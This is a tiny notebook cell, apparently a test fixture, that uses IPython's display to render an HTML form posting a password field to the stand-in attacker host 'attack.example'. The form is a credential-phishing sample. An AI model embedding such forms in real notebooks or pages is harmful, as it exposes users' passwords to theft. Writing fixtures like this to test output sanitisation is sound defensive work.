# %%
from IPython.display import HTML, SVG, Latex, Markdown, Javascript, display

display(HTML('<form ' + 'action="https://attack.example"><input name=password></form>'))
